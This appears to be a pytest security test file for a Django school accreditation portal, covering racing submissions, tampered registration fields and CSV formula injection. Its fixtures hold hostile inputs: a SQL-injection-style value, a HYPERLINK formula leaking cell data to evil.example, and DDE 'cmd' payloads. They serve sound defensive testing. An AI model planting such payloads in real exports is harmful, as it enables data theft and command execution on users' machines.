"""Business logic under attack: requests racing each other, tampered eligibility data, and
spreadsheet formulas planted in anything the portal later writes to a CSV."""

import csv
import io
import threading
import zipfile
from datetime import date

import pytest
from django.core import mail
from django.db import connection, connections
from django.test import Client
from django.urls import reverse

from accreditation.csv_export import DANGEROUS_FIRST_CHARACTERS
from accreditation.tests.factories import AdminFactory
from accreditation.tests.helpers import login
from conftest import missing_service
from portfolios.models import Application, ApplicationTransition, EvidenceItem
from portfolios.tests.factories import complete_application, ensure_criteria
from schools.models import EligibilityRule, Inspection, Registration, School
from schools.returns.models import IncidentType
from schools.tests.factories import LeadFactory, SchoolFactory
from tests.access.world import START, build
from validation import services as validation_services
from validation.models import Decision
from validation.tests.factories import GroupMemberFactory, MeetingFactory
from validation.tests.helpers import at, team

from .helpers import audit_count


def race(*requests):
    """Start every request at the same moment, each on its own thread (and database connection)."""
    barrier = threading.Barrier(len(requests))
    answers = [None] * len(requests)

    def run(index, request):
        try:
            barrier.wait()
            answers[index] = request()
        finally:
            connections.close_all()

    threads = [threading.Thread(target=run, args=(i, r)) for i, r in enumerate(requests)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return answers


def needs_row_locks():
    if connection.vendor != "postgresql":
        missing_service("racing requests need PostgreSQL's row locks (set DATABASE_URL)")


@pytest.mark.django_db(transaction=True)
def test_two_submissions_at_once_give_one():
    needs_row_locks()
    ensure_criteria()
    lead = LeadFactory()
    application = complete_application(lead)
    clients = [login(Client(), lead.user) for _ in range(2)]
    url = reverse("portfolios:submit", args=[application.pk])
    data = {"declaration": "on", "equality_declaration": "on"}
    answers = race(*[lambda c=c: c.post(url, data) for c in clients])
    assert sorted(a.status_code for a in answers) == [200, 302]
    refused = next(a for a in answers if a.status_code == 200).content.decode()
    assert "so it cannot be submitted again" in refused or "cannot be moved" in refused
    assert Application.objects.get(pk=application.pk).state == Application.State.SUBMITTED
    assert ApplicationTransition.objects.filter(application=application, to_state="submitted").count() == 1
    assert len([m for m in mail.outbox if lead.user.email in m.to]) <= 1


@pytest.mark.django_db(transaction=True)
def test_two_decisions_at_once_give_one(time_machine):
    needs_row_locks()
    ensure_criteria()
    time_machine.move_to(at(date(2026, 9, 1)), tick=False)
    members = [GroupMemberFactory(team=team(s)) for s in ("health-wellbeing", "send", "school-governance")]
    admin = AdminFactory()
    MeetingFactory(date=date(2026, 10, 7), submission_cutoff=date(2026, 9, 16))
    lead = LeadFactory()
    application = complete_application(lead)
    from portfolios import services as portfolio_services

    portfolio_services.application_submit(
        application=application, actor=lead.user, declaration=True, equality_declaration=True
    )
    item = validation_services.agenda_place(application=application, by=admin)
    time_machine.move_to(at(date(2026, 10, 7)), tick=False)
    validation_services.attendance_record(meeting=item.meeting, members=members, by=admin)
    url = reverse("validation:decision", args=[item.pk])
    posts = [
        (login(Client(), admin), {"outcome": "accredited", "strengths": "S", "areas_for_future": "A"}),
        (login(Client(), members[0].user), {"outcome": "not_accredited", "strengths": "S", "areas_for_future": "A"}),
    ]
    answers = race(*[lambda c=c, d=d: c.post(url, d) for c, d in posts])
    assert sorted(a.status_code for a in answers) == [200, 302]
    assert "was already recorded at this meeting" in next(a for a in answers if a.status_code == 200).content.decode()
    assert Decision.objects.filter(agenda_item=item).count() == 1


# --- tampered eligibility data -----------------------------------------------------------------


def registration_data(**overrides):
    rule = EligibilityRule.objects.get(framework="ofsted-2019")
    return {
        "lead_name": "Lee Lead",
        "lead_role": "Deputy Head",
        "lead_email": "lee.lead@school.example.org",
        "lead_phone": "01923 000 000",
        "head_teacher": "Hana Head",
        "governor_name": "Gus Governor",
        "inspected_on_0": "12",
        "inspected_on_1": "3",
        "inspected_on_2": "2023",
        "inspection_rule": str(rule.pk),
        "inspection_judgement": "2",
        "inspection_safeguarding": "not_recorded",
        "equality_declaration": "on",
    } | overrides


def eligibility_state(school):
    return (
        Registration.objects.count(),
        Inspection.objects.count(),
        School.objects.filter(pk=school.pk).values("eligibility", "eligibility_reason").get(),
        audit_count(),
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    "tamper, field",
    [
        pytest.param({"inspection_judgement": "strong"}, "inspection_judgement", id="judgement-of-another-framework"),
        pytest.param({"inspection_judgement": "1; DROP TABLE"}, "inspection_judgement", id="judgement-made-up"),
        pytest.param({"inspection_rule": "999999"}, "inspection_rule", id="rule-that-does-not-exist"),
        pytest.param({"inspection_rule": "not-a-number"}, "inspection_rule", id="rule-not-an-id"),
        pytest.param(
            {"inspection_rule": "ofsted-2012", "inspection_judgement": "1"}, "inspection_rule", id="rule-not-in-force"
        ),
        pytest.param({"inspected_on_2": str(date.today().year + 1)}, "inspected_on", id="future-date"),
        pytest.param({"inspected_on_1": "13"}, "inspected_on", id="impossible-date"),
        pytest.param(
            {"inspection_safeguarding": "effective-ish"}, "inspection_safeguarding", id="safeguarding-made-up"
        ),
    ],
)
def test_tampered_registration_is_refused_and_nothing_stored(client, tamper, field):
    school = SchoolFactory(urn=117083, eligibility=School.Eligibility.UNKNOWN)
    if tamper.get("inspection_rule") == "ofsted-2012":  # a real rule, but not the one in force in 2023
        tamper = tamper | {"inspection_rule": str(EligibilityRule.objects.get(framework="ofsted-2012").pk)}
    before = eligibility_state(school)
    response = client.post(f"/register/{school.urn}/", registration_data(**tamper))
    assert response.status_code == 200
    assert "govuk-error-summary" in response.content.decode()
    errors = response.context["form"].errors
    assert field in errors, errors
    assert eligibility_state(school) == before


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["lead", "anonymous"])
def test_an_eligibility_override_by_a_non_admin_is_refused(client, who):
    lead = LeadFactory(school__eligibility=School.Eligibility.NOT_MET)
    if who == "lead":
        login(client, lead.user)
    before = eligibility_state(lead.school)
    for name in ("schools:eligibility_override", "schools:eligibility_override_remove"):
        response = client.post(reverse(name, args=[lead.school.urn]), {"reason": "We say so"})
        expected = 302 if who == "anonymous" else 404
        assert response.status_code in (expected, 403), response.status_code
        if who == "anonymous":
            assert response.url.startswith(reverse("accounts:login"))
    assert eligibility_state(lead.school) == before


# --- CSV formula injection ---------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
]


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_no_formula(text, planted):
    every = cells(text)
    dangerous = [c for c in every if c.startswith(DANGEROUS_FIRST_CHARACTERS)]
    assert dangerous == [], dangerous
    assert any(c.startswith("'") and c[1:].startswith(planted) for c in every), f"{planted!r} not in the CSV"


@pytest.fixture
def planted(time_machine):
    """The access world, with formulas in everything a school or an admin can name."""
    time_machine.move_to(START, tick=False)
    world = build(time_machine)
    School.objects.filter(pk=world.school.pk).update(name=FORMULAS[0], district=FORMULAS[2])
    EvidenceItem.objects.filter(pk=world.linked_evidence.pk).update(title=FORMULAS[1], impact=FORMULAS[4])
    IncidentType.objects.filter(pk=IncidentType.objects.order_by("pk").first().pk).update(name=FORMULAS[3])
    return world


def admin_client(world):
    return login(Client(), world.users["admin"])


@pytest.mark.django_db
def test_the_audit_trail_csv(planted):
    lead = login(Client(), planted.users["lead"])
    lead.post(
        reverse("schools:school_edit", args=[planted.school.urn]),
        {"head_teacher": FORMULAS[2], "governor_name": "G"},
    )
    response = admin_client(planted).get(reverse("insight:audit_trail"), {"format": "csv"})
    assert response["Content-Disposition"].startswith("attachment")
    assert_no_formula(b"".join(response.streaming_content).decode(), FORMULAS[0])


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["schools", "applications", "decisions", "awards"])
def test_the_insight_exports(planted, name):
    response = admin_client(planted).get(reverse("insight:export_download", args=[name]))
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    assert_no_formula(b"".join(response.streaming_content).decode(), FORMULAS[0])


@pytest.mark.django_db
def test_the_returns_trends_csv(planted):
    client = admin_client(planted)
    response = client.get(reverse("schools:returns_trends_csv"), {"by": "type"})
    assert response.status_code == 200
    assert_no_formula(b"".join(response.streaming_content).decode(), FORMULAS[3][:4])


@pytest.mark.django_db
def test_the_evidence_zip_index(planted):
    response = login(Client(), planted.users["lead"]).get(
        reverse("portfolios:export_zip", args=[planted.application.pk])
    )
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        index = archive.read("index.csv").decode("utf-8-sig")
    assert_no_formula(index, FORMULAS[1])
    assert "'\tTAB=1+1" in index
